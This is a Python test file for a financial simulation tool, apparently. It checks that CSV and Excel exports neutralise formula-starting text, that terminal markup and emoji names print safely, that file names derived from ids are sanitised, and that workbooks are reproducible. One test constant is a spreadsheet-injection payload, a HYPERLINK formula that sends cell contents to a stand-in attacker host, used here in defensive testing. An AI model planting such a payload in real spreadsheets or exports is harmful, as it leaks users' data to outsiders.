"""Text from scenario files that travel between organisations: never a formula in a CSV or
workbook, never Rich markup on the terminal, never a broken or colliding file name; and
workbooks byte-identical for identical runs."""

from __future__ import annotations

import csv
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from finsim.cli import main
from finsim.report.files import MAX_STEM, file_names, neutralised, write_csv

from .conftest import SMALL
from .processes import ENV

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOAD_ID = PAYLOAD.replace(".", "")
"""The payload as a provider's id, which may hold no dot (a dotted path steps at it)."""


def _scenario(tmp_path: Path, **changes) -> Path:
    data = yaml.safe_load(SMALL.read_text())
    for key, value in changes.items():
        target = data
        *path, last = key.split(".")
        for part in path:
            target = target[int(part)] if part.isdigit() else target[part]
        target[last] = value
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


def _invoke(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+49 231", "'+49 231"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("alpha", "alpha"), ("a=b", "a=b"), ("", ""),
    (-5.0, -5.0), (3, 3)])
def test_csv_text_cells_that_start_a_formula_get_an_apostrophe(value, written):
    assert neutralised(value) == written


def test_csv_numbers_stay_numbers_and_text_is_neutralised(tmp_path):
    frame = pd.DataFrame({"provider": [PAYLOAD, "beta"], "amount": [-12.5, 3.0]})
    write_csv(frame, tmp_path / "a.csv")
    rows = list(csv.DictReader((tmp_path / "a.csv").open()))
    assert rows[0] == {"provider": "'" + PAYLOAD, "amount": "-12.50"}  # money: two decimals
    assert rows[1] == {"provider": "beta", "amount": "3.00"}
    assert frame["provider"][0] == PAYLOAD  # the caller's frame is not changed


def test_hostile_names_and_ids_reach_no_csv_or_workbook_as_formulas(tmp_path):
    """The payload as scenario name, provider id and name, funder name: every CSV holds
    it with an apostrophe, plan.xlsx and results.xlsx hold it as a text cell, and the
    only formulas are finsim's own (cell references, arithmetic, SUM, ROUND, IF: no
    text, no call out)."""
    scenario = _scenario(tmp_path, **{"name": PAYLOAD, "providers.0.id": PAYLOAD_ID,
                                      "providers.0.name": PAYLOAD, "funding.1.name": PAYLOAD,
                                      "funding.2.id": "@evil"})
    run_out, size_out = tmp_path / "run", tmp_path / "size"
    assert _invoke("run", str(scenario), "-q", "-n", "3", "-j", "1",
                   "--out", str(run_out)).exit_code == 0
    done = _invoke("size", str(scenario), "-q", "-n", "3", "-j", "1", "--start", "2013-01",
                   "--months", "12", "--confidence", "0.9", "--out", str(size_out))
    assert done.exit_code == 0, done.output
    texts = []
    for path in [*run_out.glob("*.csv"), *size_out.glob("*.csv")]:
        for row in csv.reader(path.open(encoding="utf-8")):
            texts += row
    assert "'" + PAYLOAD_ID in texts and "'@evil" in texts
    assert not any(t.startswith(("=", "+", "@")) for t in texts)
    assert not any(t.startswith("-") and not _number(t) for t in texts)
    for workbook in (size_out / "plan.xlsx", run_out / "results.xlsx"):
        book = openpyxl.load_workbook(workbook)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                 if c.value is not None]
        assert any(PAYLOAD in c.value and c.data_type == "s" for c in cells
                   if isinstance(c.value, str)), workbook.name
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert formulas and all(OWN_FORMULA.fullmatch(f) for f in formulas), \
            [f for f in formulas if not OWN_FORMULA.fullmatch(f)]
        with zipfile.ZipFile(workbook) as archive:
            sheets = b"".join(archive.read(n) for n in archive.namelist()
                              if n.startswith("xl/worksheets"))
        written = re.findall(rb"<f>(.*?)</f>", sheets)
        assert written and not any(b"HYPERLINK" in f or b"http" in f for f in written)


OWN_FORMULA = re.compile(r"=(?:'Mengengerüst'!|[A-Z]{1,3}[0-9]+|SUM|ROUND|IF|[-+*/,=():0-9.])+")
"""What finsim's own formulas are made of."""


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- the terminal -----------------------------------------------------------------------------


@pytest.mark.parametrize("command", [
    ["run"], ["sensitivity", "--param", "costs.material.per_slot_month=40:60",
              "--metric", "cost_total"],
    ["size", "--start", "2013-01", "--months", "12", "--confidence", "0.9"],
    ["compare"]])
def test_rich_markup_in_names_prints_as_written(tmp_path, command):
    scenario = _scenario(tmp_path, **{"name": "Program [/bold] x [red]",
                                      "providers.0.name": "[/] Alpha",
                                      "funding.0.name": "Jobcenter [/bold]"})
    name, *rest = command
    if name == "compare":  # against a copy: a funder named alike in both keeps its name
        other = tmp_path / "copy.yaml"
        other.write_text(scenario.read_text(encoding="utf-8"), encoding="utf-8")
        rest = [str(other)]
    args = [name, str(scenario), *rest]
    done = _invoke(*args, "-n", "3", "-j", "1", "--out", str(tmp_path / "out"))
    assert done.exit_code == 0, done.output
    if name != "compare":
        assert "Program [/bold] x [red]" in done.output
    if name in ("run", "compare"):
        assert "Jobcenter [/bold]" in done.output


def test_the_fiscal_table_prints_a_budget_as_written():
    """The run's console has markup off: an id is printed as it is, not escaped."""
    from finsim.report.terminal import console, fiscal_view

    out = console()
    with out.capture() as captured:
        out.print(fiscal_view([{"budget": "[/]x [red]", "public": True, "year": 2013, "paid": 5.0,
                                "saved": 2.0, "returns": 0.0, "net": 3.0, "paid_cash": 5.0}]))
    assert "│ [/]x [red] │ 2013 │" in captured.get()


def test_an_id_the_outputs_use_does_not_crash_the_terminal(tmp_path, monkeypatch):
    """Even if validation let ``all`` and ``gap`` through as ids, the summaries print."""
    monkeypatch.setattr("finsim.scenario.checks.RESERVED_IDS", {})
    scenario = _scenario(tmp_path, **{"providers.0.id": "all", "funding.0.id": "gap"})
    run = _invoke("run", str(scenario), "-n", "3", "-j", "1", "--out", str(tmp_path / "r"))
    assert run.exit_code == 0, run.output
    size = _invoke("size", str(scenario), "-n", "3", "-j", "1", "--start", "2013-01",
                   "--months", "12", "--confidence", "0.9", "--out", str(tmp_path / "s"))
    assert size.exit_code == 0, size.output


def _emoji(tmp_path: Path) -> Path:
    """Glyphs no chart font has, in every text a chart draws: the name, a provider's and
    a funder's id and name."""
    return _scenario(tmp_path, **{"name": "Test 🚀", "providers.0.id": "alpha🚀",
                                  "providers.0.name": "Alpha 🚀", "funding.2.id": "rest🎯",
                                  "funding.2.name": "Rest 🎯"})


def test_a_quiet_run_with_emoji_names_prints_nothing_on_stderr(tmp_path):
    """matplotlib warns of each glyph its font lacks; -q promises errors only. -j 2: the
    charts are drawn in the painter's process."""
    scenario = _emoji(tmp_path)
    done = subprocess.run([sys.executable, "-m", "finsim", "run", str(scenario), "-q",
                           "-n", "4", "-j", "2", "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, env=ENV, timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    assert (tmp_path / "out" / "cashflow.png").stat().st_size > 0


@pytest.mark.parametrize("command", [
    ["sensitivity", "--param", "costs.material.per_slot_month=40:60",
     "--metric", "cost_total", "--metric", "funding_rest🎯"],
    ["size", "--start", "2013-01", "--months", "12", "--confidence", "0.9"],
    ["compare", "SELF"]])
def test_charts_of_emoji_names_raise_no_glyph_warning(tmp_path, command):
    """Every command's charts (PNG and the report's SVG), in process: only the missing-glyph
    warning is silenced, and only while a chart is drawn."""
    import warnings

    scenario = _emoji(tmp_path)
    name, *rest = command
    rest = [str(scenario) if r == "SELF" else r for r in rest]
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        done = _invoke(name, str(scenario), *rest, "-n", "3", "-j", "1",
                       "--out", str(tmp_path / "out"))
        warnings.warn("Glyph 1 (x) missing from font(s) here", UserWarning,  # not silenced
                      stacklevel=1)
    assert done.exit_code == 0, done.output
    glyphs = [str(w.message) for w in caught if "missing from font" in str(w.message)]
    assert glyphs == ["Glyph 1 (x) missing from font(s) here"]


# -- file names from ids ----------------------------------------------------------------------


def test_file_names_are_safe_bounded_and_unique():
    long_a, long_b = "funding_" + "f" * 300, "funding_" + "f" * 299 + "g"
    texts = ["cost_total", long_a, long_b, "funding_Stadt München", "funding_Stadt Munchen",
             "Cost_Total", "a/b\\c:d", "../../etc", "日本"]
    names = file_names(texts, "tornado-", ".png")
    assert names[0] == "tornado-cost_total.png"
    assert names[3] == "tornado-funding_Stadt-Munchen.png"
    assert len({n.casefold() for n in names}) == len(names)  # unique, whatever the case
    for name in names:
        assert len(name) <= len("tornado-") + MAX_STEM + len(".png")
        assert name.startswith("tornado-") and name.endswith(".png")
        assert "/" not in name and "\\" not in name and ":" not in name and ".." not in name
        assert name.isascii()
    assert names == file_names(texts, "tornado-", ".png")  # the same names every run


def test_sensitivity_with_a_300_character_funder_id_writes_every_chart(tmp_path):
    long_id = "f" * 300
    scenario = _scenario(tmp_path, **{"funding.0.id": long_id})
    done = _invoke("sensitivity", str(scenario), "-q", "-n", "3", "-j", "1",
                   "--param", "costs.wages.annual_increase=0.01:0.03",  # moves both
                   "--metric", f"funding_{long_id}", "--metric", "cost_total",
                   "--out", str(tmp_path / "out"))
    assert done.exit_code == 0, done.output
    charts = sorted(p.name for p in (tmp_path / "out").glob("*.png"))
    assert len(charts) == 2 and "tornado-cost_total.png" in charts


# -- reproducible workbooks -------------------------------------------------------------------


def test_identical_runs_write_byte_identical_workbooks(tmp_path, monkeypatch):
    """Two size runs a (faked) day apart: plan.xlsx is the same bytes; the run's time
    would only be in run.json."""
    import time as clock

    outs = []
    for k, shift in enumerate((0, 86_400 + 7)):
        real = clock.time
        monkeypatch.setattr("time.time", lambda shift=shift, real=real: real() + shift)
        out = tmp_path / f"s{k}"
        done = _invoke("size", str(SMALL), "-q", "-n", "3", "-j", "1", "--start", "2013-01",
                       "--months", "12", "--confidence", "0.9", "--out", str(out))
        monkeypatch.setattr("time.time", real)
        assert done.exit_code == 0, done.output
        outs.append(out)
    first, second = ((o / "plan.xlsx").read_bytes() for o in outs)
    assert first == second
    props = openpyxl.load_workbook(outs[0] / "plan.xlsx").properties
    assert props.creator == "finsim" and props.created.year == 2000
